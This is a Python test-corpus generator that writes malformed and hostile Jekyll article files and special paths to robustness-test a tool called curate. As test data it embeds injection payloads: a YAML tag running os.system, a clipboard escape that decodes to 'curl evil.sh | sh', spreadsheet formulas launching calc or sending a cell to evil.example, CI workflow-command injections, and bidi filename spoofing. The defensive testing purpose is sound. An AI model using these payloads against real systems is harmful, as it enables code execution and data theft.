"""Generate the hostile corpus: article files and paths that have broken curate, or could.

``python tests/hostile_corpus.py OUT`` writes the sites under OUT; tests/test_hostile.py
imports :func:`content_inputs` and :func:`make_special_site`. Every input is a file
in a small Jekyll site beside two known articles:

* ``2021-07-05-good.md``: valid; ``list``, ``rank`` and ``stats`` must show it;
* ``2021-07-04-witness.md``: valid YAML without ``category``; ``validate`` and ``lint``
  must report its SC001.

Classes (issue 12): explicit tags with bad values, unsafe tags, numbers too large,
encodings, BOM and line-ending mixes, control characters and Rich markup in data,
spreadsheet formulas, YAML bombs and deep nesting, huge and empty files, values of
the wrong type, odd dates and URLs; and, in a site of their own, special paths:
FIFOs, symlink loops, devices, names that are not UTF-8 or hold control characters.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

CONFIG = "title: hostile\nurl: https://news.example.org\n"
GOOD_NAME = "2021-07-05-good.md"
WITNESS_NAME = "2021-07-04-witness.md"
GOOD = """---
category: news
title: "A good article"
excerpt: "Nothing wrong here."
publishedDateTime: 2021-07-05T09:30:00Z
webUrl: "https://www.example.com/news/good"
type: article
quality: 88
heat: 120
published: true
provider:
  name: Example News
  domain: example.com
topics:
  - AI Ethics
---
Body.
"""
#: Valid YAML, one schema finding (no category): the article validate and lint must report.
WITNESS = GOOD.replace("category: news\n", "").replace("/good", "/witness")


class Input(NamedTuple):
    """One hostile file: its class, a name for failure messages, its bytes."""

    kind: str
    name: str
    data: bytes


def article(**fields: str) -> str:
    """A valid article's front matter with some lines replaced (values are raw YAML)."""
    lines = {
        "category": "news",
        "title": '"Hostile"',
        "publishedDateTime": "2021-07-06T09:30:00Z",
        "webUrl": '"https://www.example.com/news/hostile"',
        "type": "article",
        "quality": "70",
        "heat": "10",
        "published": "true",
        "provider": "\n  name: Example\n  domain: example.org",
        "topics": "\n  - AI Ethics",
    }
    lines.update(fields)
    body = "".join(f"{key}: {value}\n" if value else f"{key}:\n" for key, value in lines.items())
    return f"---\n{body}---\nBody.\n"


def _text(kind: str, name: str, text: str) -> Input:
    return Input(kind, name, text.encode("utf-8", "surrogatepass"))


# --- YAML tags --------------------------------------------------------------------------------

BAD_TAGGED = (
    '!!int "abc"',
    '!!int ""',
    '!!int "0x"',
    '!!int "0b"',
    '!!int "-"',
    '!!int "1.5"',
    '!!float "abc"',
    '!!float "1:2:x"',
    '!!float ""',
    '!!bool "maybe"',
    '!!bool ""',
    "!!int",
    "!!bool",
    "!!float",
    '!!null "x"',
    '!!timestamp "yesterday"',
)
UNSAFE_TAGS = (
    "!!python/object/apply:os.system ['touch /tmp/curate-owned']",
    "!!python/name:os.system",
    "!!python/object:__main__.X {}",
    "!!binary aGVsbG8=",
    "!!set {a, b}",
    "!!omap [a: 1]",
    "!!pairs [a: 1]",
    "!custom x",
    "!<tag:example.com,2000:x> y",
    "!!str [a, b]",
    "!!map [a]",
    "!!seq {a: 1}",
)


def tag_inputs() -> Iterator[Input]:
    for index, value in enumerate(BAD_TAGGED):
        for key in ("quality", "heat", "published", "title"):
            yield _text("tags", f"bad-{key}-{index}", article(**{key: value}))
        yield _text("tags", f"bad-in-list-{index}", article(topics=f"\n  - {value}"))
        yield _text("tags", f"bad-as-key-{index}", article(extra=f"\n  {value}: 1"))
    for index, value in enumerate(UNSAFE_TAGS):
        yield _text("tags", f"unsafe-{index}", article(title=value))
        yield _text("tags", f"unsafe-nested-{index}", article(provider=f"\n  name: {value}"))


# --- numbers ----------------------------------------------------------------------------------

BIG = "9" * 4400
BIG_NUMBERS = {
    "plain": BIG,
    "negative": "-" + BIG,
    "underscored": "_".join(["999"] * 1500),
    "hex": "0x" + "f" * 4400,
    "hex-short": "0x" + "f" * 300,
    "octal": "0" + "7" * 4400,
    "binary": "0b" + "1" * 4400,
    "sexagesimal": "1" + ":59" * 2200,
    "sexagesimal-short": "1" + ":1" * 190,
    "sexagesimal-float": "1" + ":59" * 2200 + ".5",
    "sexagesimal-float-short": "1" + ":1" * 190 + ".5",
    "float-exponent": "1.0e999999",
    "float-long": "0." + "1" * 4400,
    "fits-300-digits": "9" * 300,
    "fits-negative-300": "-" + "9" * 300,
    "tagged": f'!!int "{BIG}"',
}


def number_inputs() -> Iterator[Input]:
    for name, value in BIG_NUMBERS.items():
        for key in ("quality", "heat"):
            yield _text("numbers", f"{name}-{key}", article(**{key: value}))
        yield _text("numbers", f"{name}-related", article(related=f"\n  - quality: {value}"))
        yield _text("numbers", f"{name}-as-key", article(extra=f"\n  {value}: 1"))


# --- encodings and line ends ------------------------------------------------------------------


def encoding_inputs() -> Iterator[Input]:
    text = article(title='"Caf\u00e9 \u2013 \u6771\u4eac"')
    yield Input("encodings", "latin-1", article(title='"Café"').encode("latin-1"))
    yield Input("encodings", "cp1252", article(title='"\u201cquoted\u201d"').encode("cp1252"))
    for codec in ("utf-16", "utf-16-le", "utf-16-be", "utf-32"):
        yield Input("encodings", codec, text.encode(codec))
    yield Input("encodings", "utf-8-bom", b"\xef\xbb\xbf" + text.encode())
    yield Input("encodings", "double-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + text.encode())
    yield Input("encodings", "bom-mid-file", text.replace("Body", "\ufeffBody").encode())
    yield Input("encodings", "bom-in-value", article(title='"\ufeffx"').encode())
    yield Input("encodings", "truncated-utf8", text.encode()[:-1] + b"\xe2\x82")
    yield Input("encodings", "overlong", article(title='"\xc0\xaf"').encode("latin-1"))
    yield Input(
        "encodings",
        "cesu-surrogate",
        article(title='"\ud83d\ude00"').encode("utf-8", "surrogatepass"),
    )
    yield Input(
        "encodings", "lone-surrogate", article(title='"\udcff"').encode("utf-8", "surrogatepass")
    )
    yield Input("encodings", "nul-byte", text.replace("Body", "Bo\x00dy").encode())
    yield Input("encodings", "nul-in-front-matter", article(title='"a\x00b"').encode())
    yield Input("encodings", "yaml-escaped-nul", article(title='"a\\0b"').encode())
    yield Input("encodings", "yaml-escaped-surrogate", article(title='"\\udcff"').encode())
    for name, end in (("crlf", "\r\n"), ("cr", "\r"), ("lf-cr", "\n\r"), ("nel", "\x85")):
        yield Input("line-ends", name, text.replace("\n", end).encode())
    yield Input("line-ends", "bom-crlf", b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    mixed = "".join(line + ("\r\n" if i % 2 else "\n") for i, line in enumerate(text.split("\n")))
    yield Input("line-ends", "mixed", mixed.encode())
    yield Input("line-ends", "crlf-fence-only", text.replace("---\n", "---\r\n").encode())
    yield Input("line-ends", "line-separator", text.replace("\n", "\u2028", 3).encode())
    yield Input("line-ends", "fence-with-tab", text.replace("---\n", "---\t\n", 1).encode())


# --- what a terminal, a CI log or a spreadsheet would obey ------------------------------------

#: YAML double-quoted escapes, so the file itself stays printable.
CONTROL = {
    "esc-clear": "\\e[2J\\e[H",
    "osc52-clipboard": "\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\a",
    "osc8-link": "\\e]8;;file:///etc/passwd\\e\\\\click\\e]8;;\\e\\\\",
    "csi-c1": "\\x9b2J",
    "del": "a\\x7fb",
    "bell": "\\a\\a",
    "backspace": "safe\\b\\b\\b\\bevil",
    "carriage-return": "shown\\rhidden",
    "bidi-override": "abc\\u202Efdp.exe",
    "bidi-isolate": "\\u2066evil\\u2069",
    "newline-error": "x\\n::error file=a,line=1::owned",
    "newline-stop-commands": "x\\n::stop-commands::token",
    "leading-error": "::error::owned",
    "spaced-error": "   ::warning::owned",
    "nel": "a\\Nb::error::x",
    "line-separator": "a\\L::error::x",
    "tab": "a\\tb",
}
MARKUP = {
    "rich-link": "[link=file:///etc/passwd]click me[/link]",
    "rich-style": "[bold red on white blink]LOUD[/]",
    "rich-close": "[/]",
    "rich-open": "[",
    "emoji-code": ":smiley: :warning:",
    "percent": "%s%n%x",
    "braces": "{0} {title}",
    "html": "<script>alert(1)</script>",
}
FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\\t=1+1",
    "cr": "\\r=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
}


def _quoted(escaped: str) -> str:
    return '"' + escaped.replace('"', '\\"') + '"'


def data_inputs() -> Iterator[Input]:
    for group, payloads in (("control", CONTROL), ("markup", MARKUP), ("formulas", FORMULAS)):
        for name, payload in payloads.items():
            value = _quoted(payload)
            yield _text(group, f"{name}-title", article(title=value))
            yield _text(group, f"{name}-topic", article(topics=f"\n  - {value}"))
            yield _text(group, f"{name}-domain", article(provider=f"\n  domain: {value}"))
            yield _text(group, f"{name}-provider-name", article(provider=f"\n  name: {value}"))
    for name, payload in CONTROL.items():
        yield _text("control", f"{name}-url", article(webUrl=_quoted("https://x.org/" + payload)))
        yield _text("control", f"{name}-key", article(extra=f"\n  {_quoted(payload)}: 1"))


# --- structure: bombs, nesting, sizes ---------------------------------------------------------


def _alias_bomb(levels: int) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        lines.append(f"a{level}: &a{level} [" + ",".join([f"*a{level - 1}"] * 9) + "]")
    return "---\n" + "\n".join(lines) + "\n---\n"


def structure_inputs() -> Iterator[Input]:
    yield _text("bombs", "alias-bomb", _alias_bomb(10))
    yield _text("bombs", "alias-bomb-small", _alias_bomb(5))
    yield _text("bombs", "recursive-alias", "---\na: &a [*a]\n---\n")
    yield _text(
        "bombs",
        "merge-bomb",
        "---\nb: &b {x: 1}\n"
        + "".join(
            f"m{i}: &m{i}\n  <<: [*{'b' if i == 0 else f'm{i - 1}'}]\n  k{i}: 1\n"
            for i in range(200)
        )
        + "---\n",
    )
    yield _text("bombs", "undefined-alias", "---\na: *nope\n---\n")
    yield _text("bombs", "merge-of-scalars", "---\nb:\n  <<: [1, 2]\n---\n")
    for depth in (63, 65, 1000, 100_000):
        flow = "[" * depth + "]" * depth
        yield _text("nesting", f"flow-seq-{depth}", f"---\na: {flow}\n---\n")
        yield _text(
            "nesting",
            f"flow-map-{depth}",
            "---\na: " + "{a: " * depth + "1" + "}" * depth + "\n---\n",
        )
    for depth in (65, 1000):
        block = (
            "".join("  " * level + f"k{level}:\n" for level in range(depth)) + "  " * depth + "x"
        )
        yield _text("nesting", f"block-map-{depth}", f"---\n{block}\n---\n")
        yield _text(
            "nesting",
            f"block-seq-{depth}",
            "---\na:\n" + "".join(" " * i + "- \n" for i in range(depth)) + "---\n",
        )
    yield _text("nesting", "complex-key", "---\n? [a, b]\n: 1\n? {x: 1}\n: 2\n---\n")
    yield _text(
        "nesting", "odd-keys", "---\n1: a\nnull: b\ntrue: c\n~: d\n1.5: e\n2001-01-01: f\n---\n"
    )
    yield _text(
        "sizes", "many-keys", "---\n" + "".join(f"k{i}: {i}\n" for i in range(5_000)) + "---\n"
    )
    yield _text("sizes", "many-duplicates", "---\n" + "title: x\n" * 2000 + "---\n")
    yield _text("sizes", "long-title", article(title='"' + "x" * 500_000 + '"'))
    yield _text("sizes", "long-url", article(webUrl='"https://example.com/' + "a/" * 3000 + '"'))
    yield _text("sizes", "long-line-no-spaces", article(excerpt="x" * 100_000))
    yield _text(
        "sizes", "front-matter-over-1mib", "---\nt: " + "y" * (1024 * 1024 + 10) + "\n---\n"
    )
    yield _text("sizes", "many-topics", article(topics="".join(f"\n  - T{i}" for i in range(2000))))
    yield _text("sizes", "many-lines-of-body", article() + "line\n" * 200_000)
    yield Input("sizes", "over-16mib", b"---\ntitle: x\n---\n" + b"x" * (16 * 1024 * 1024 + 10))
    for name, text in {
        "empty": "",
        "blank": " \n\t\n",
        "only-fence": "---\n",
        "two-fences": "---\n---\n",
        "never-closed": "---\ntitle: x\n",
        "fence-no-newline": "---",
        "dots-close": "---\ntitle: x\n...\n",
        "list": "---\n- a\n---\n",
        "scalar": "---\nhello\n---\n",
        "null-document": "---\n~\n---\n",
        "two-documents": "---\na: 1\n---\nb: 2\n---\n",
        "document-marker-inside": "---\na: |\n  ---\n  b\n---\n",
        "directive": "---\n%YAML 1.2\n---\na: 1\n---\n",
        "tab-indent": "---\na:\n\t- b\n---\n",
        "syntax-error": "---\ntitle: [unclosed\n---\n",
        "bad-indent": "---\na: 1\n  b: 2\n---\n",
        "anchor-only": "---\n&a\n---\n",
    }.items():
        yield _text("files", name, text)


# --- values of the wrong type or shape --------------------------------------------------------

WRONG_VALUES = {
    "title": ("[a, b]", "{a: 1}", "12", "true", "~", '""', "2021-01-01"),
    "topics": ('"AI"', "{a: 1}", "[[a]]", "[{a: 1}]", "[1, 2]", "[~]", "[]"),
    "provider": ('"x"', "[a]", "{domain: [a]}", "{domain: {a: 1}}", "{images: 5}"),
    "publishedDateTime": (
        "0000-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "99999-01-01",
        "2021-02-30T00:00:00Z",
        '"now"',
        "1e20",
        "-1",
        "2021-07-06T25:61:61+99:99",
        "9999-12-31T23:59:59-01:00",
        "0001-01-01T00:00:00+01:00",
        "0001-01-01T00:00:00Z",
        "0001-01-02T00:00:00+01:00",
        "[2021]",
    ),
    "quality": ("-1", "1.5", ".nan", ".inf", "-.inf", "true", '"70"', "[70]", "9" * 300),
    "heat": ("-1", "-" + "9" * 300, "200000000", ".nan", "1e308", "[1]"),
    "published": ('"yes"', "no", "~", "1", "[true]"),
    "webUrl": (
        '"javascript:alert(1)"',
        '"data:text/html,<script>"',
        '"http://[::1"',
        '"http://%zz/"',
        '"https://exa mple.com/"',
        '"https://xn--80ak6aa92e.com/"',
        '"//no-scheme"',
        '""',
        "[a]",
    ),
    "images": ("5", '"x"', "[5]", "[{url: [1]}]", "[{width: -1, height: 1e400}]"),
    "related": ("5", "[5]", "[{webUrl: 5}]", "[{provider: 5}]", "[{quality: -1e308}]"),
}


def value_inputs() -> Iterator[Input]:
    for key, values in WRONG_VALUES.items():
        for index, value in enumerate(values):
            yield _text("values", f"{key}-{index}", article(**{key: value}))
    yield _text("values", "no-keys-but-comments", "---\n# curate: ignore-file\n---\n")
    yield _text(
        "values", "suppression-garbage", article(title='"x"  # curate: ignore[' + "A," * 5000 + "]")
    )


def content_inputs() -> list[Input]:
    """Every hostile file, in a fixed order (their names are unique)."""
    inputs = [
        *tag_inputs(),
        *number_inputs(),
        *encoding_inputs(),
        *data_inputs(),
        *structure_inputs(),
        *value_inputs(),
    ]
    names = [f"{item.kind}/{item.name}" for item in inputs]
    assert len(names) == len(set(names)), "duplicate input names"
    return inputs


def make_site(root: Path, inputs: list[Input]) -> Path:
    """A site with the good article, the witness, and ``inputs`` as posts."""
    posts = root / "_posts"
    posts.mkdir(parents=True)
    (root / "_config.yml").write_text(CONFIG, encoding="utf-8")
    (posts / GOOD_NAME).write_text(GOOD, encoding="utf-8")
    (posts / WITNESS_NAME).write_text(WITNESS, encoding="utf-8")
    for number, item in enumerate(inputs):
        (posts / f"2021-07-06-{number:03d}-{item.kind}-{item.name}.md").write_bytes(item.data)
    return root


# --- special paths ----------------------------------------------------------------------------


def make_special_site(root: Path) -> list[str]:
    """A site whose posts folder holds FIFOs, symlink loops and odd names; returns their kinds.

    What the platform cannot make (FIFOs on Windows, names that are not UTF-8 on macOS)
    is left out.
    """
    make_site(root, [])
    posts = root / "_posts"
    made: list[str] = []

    def attempt(kind: str, action: object) -> None:
        try:
            action()  # type: ignore[operator]
        except (OSError, ValueError, NotImplementedError, AttributeError):
            return
        made.append(kind)

    valid = article().encode()
    attempt("fifo", lambda: os.mkfifo(posts / "2021-07-06-fifo.md"))
    attempt(
        "fifo-in-subfolder", lambda: (posts / "sub").mkdir() or os.mkfifo(posts / "sub" / "p.md")
    )
    attempt(
        "symlink-loop",
        lambda: ((posts / "a.md").symlink_to("b.md"), (posts / "b.md").symlink_to("a.md")),
    )
    attempt("self-symlink", lambda: (posts / "self.md").symlink_to("self.md"))
    attempt("folder-loop", lambda: (posts / "loop").symlink_to("."))
    attempt("parent-loop", lambda: (posts / "up").symlink_to(".."))
    attempt("dangling-symlink", lambda: (posts / "dangling.md").symlink_to("nowhere.md"))
    attempt("device", lambda: (posts / "zero.md").symlink_to("/dev/zero"))
    attempt("folder-named-md", lambda: (posts / "folder.md").mkdir())
    for name in (b"caf\xe9.md", b"\xff\xfe.md", b"bad-\x80\x81.md", b"\xed\xa0\x80.md"):
        attempt("not-utf8-name", lambda name=name: (posts / os.fsdecode(name)).write_bytes(valid))
    for label, name in (
        ("newline-name", "x\n::error file=a::owned.md"),
        ("escape-name", "x\x1b[2J\x1b]52;c;aGk=\x07.md"),
        ("bidi-name", "abc\u202efdp.md"),
        ("workflow-name", "::error::owned.md"),
        ("dash-name", "--help.md"),
        ("markup-name", "[link=file:///etc/passwd]x.md"),
        ("formula-name", "=cmd.md"),
        ("long-name", "n" * 240 + ".md"),
        ("calendar-end-name", "9999-12-31-end.md"),
        ("calendar-start-name", "0001-01-01-start.md"),
        ("space-name", " spaced .md"),
    ):
        attempt(label, lambda name=name: (posts / name).write_bytes(valid))
    attempt("unreadable", lambda: _unreadable(posts / "unreadable.md", valid))
    attempt("unreadable-folder", lambda: _unreadable_folder(posts / "closed", valid))
    return made


def _unreadable(path: Path, data: bytes) -> None:
    path.write_bytes(data)
    path.chmod(0)


def _unreadable_folder(path: Path, data: bytes) -> None:
    path.mkdir()
    (path / "inside.md").write_bytes(data)
    path.chmod(0)


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/hostile_corpus.py OUT", file=sys.stderr)
        return 2
    out = Path(argv[0])
    inputs = content_inputs()
    make_site(out / "content", inputs)
    special = make_special_site(out / "special")
    print(f"{len(inputs)} files in {out / 'content'}; {len(special)} special paths beside them")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
